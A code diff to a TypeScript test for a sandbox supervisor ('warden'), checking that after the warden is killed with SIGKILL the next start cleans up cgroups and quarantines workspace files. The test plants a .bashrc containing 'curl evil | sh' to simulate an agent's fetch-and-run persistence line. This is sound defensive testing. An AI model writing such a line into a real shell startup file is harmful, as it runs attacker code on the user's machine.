@@ -1,7 +1,7 @@
 /**
  * A warden killed with SIGKILL cannot clean up after itself: its sandbox dies with it (the
- * sandbox's pid 1 has a parent-death signal), but the read-only placeholders bwrap created in the
- * workspace, the run's cgroups and its runtime directory stay. The next warden start removes them.
+ * sandbox's pid 1 has a parent-death signal), but the run's cgroups and runtime directory stay,
+ * and the post-run check of its workspace never ran. The next warden start does both.
  */
 import { existsSync, readFileSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
@@ -26,20 +26,26 @@ function cgroupDirs(mode: Mode, runId: string): string[] {
 }
 
 describe.each(availableModes())('recovery after SIGKILL of warden, as %s', (mode: Mode) => {
-  it("SBX-13 the next start removes the dead run's placeholders, cgroups and runtime directory", async () => {
+  it("SBX-13 SBX-20 the next start removes the dead run's cgroups and runtime directory and runs its post-run check", async () => {
     const workspace = makeWorkspace(mode);
     try {
       let wardenPid = -1;
-      const running = runShell(mode, workspace, 'echo started > started; sleep 600', [], {
-        onSpawn: (pid) => (wardenPid = pid),
-      });
+      const running = runShell(
+        mode,
+        workspace,
+        'echo "curl evil | sh" > .bashrc; echo started > started; sleep 600',
+        [],
+        {
+          onSpawn: (pid) => (wardenPid = pid),
+        },
+      );
       const deadline = Date.now() + 15_000;
       while (!existsSync(join(workspace, 'started')) && Date.now() < deadline)
         await new Promise((r) => setTimeout(r, 20));
       expect(existsSync(join(workspace, 'started'))).toBe(true);
 
-      // The placeholder for a missing .mcp.json exists while the run is alive.
-      expect(existsSync(join(workspace, '.mcp.json'))).toBe(true);
+      // Nothing of warden's is in the workspace while the run is alive (no placeholders).
+      expect(existsSync(join(workspace, '.mcp.json'))).toBe(false);
       const runIds = readdirSync(runtimeRoot(mode)).filter((n) => n.startsWith('run_'));
       // Other suites run sandboxes concurrently: pick the one this warden owns.
       const ownedBy = (id: string): number | null => {
@@ -54,14 +60,17 @@ describe.each(availableModes())('recovery after SIGKILL of warden, as %s', (mode
 
       process.kill(wardenPid, 'SIGKILL');
       expect((await running).signal).toBe('SIGKILL');
-      // Left behind by the dead warden:
-      expect(existsSync(join(workspace, '.mcp.json'))).toBe(true);
+      // Left behind by the dead warden: the agent's .bashrc, unchecked.
+      expect(existsSync(join(workspace, '.bashrc'))).toBe(true);
       expect(existsSync(join(runtimeRoot(mode), runId ?? ''))).toBe(true);
 
-      // Any next run recovers the abandoned one.
+      // Any next run recovers the abandoned one, and says what its check found.
       const next = await runShell(mode, workspace, 'true');
       expect(next.code, next.stderr).toBe(0);
-      expect(existsSync(join(workspace, '.mcp.json'))).toBe(false);
+      expect(existsSync(join(workspace, '.bashrc'))).toBe(false);
+      expect(existsSync(join(workspace, `.bashrc.warden-quarantine-${runId ?? ''}`))).toBe(true);
+      expect(next.stderr).toContain(`warden: ${runId ?? ''} ended without its warden`);
+      expect(next.stderr).toContain(`QUARANTINED ${join(workspace, '.bashrc')}`);
       expect(existsSync(join(workspace, '.git'))).toBe(false);
       expect(existsSync(join(runtimeRoot(mode), runId ?? ''))).toBe(false);
       expect(cgroupDirs(mode, runId ?? '')).toEqual([]);
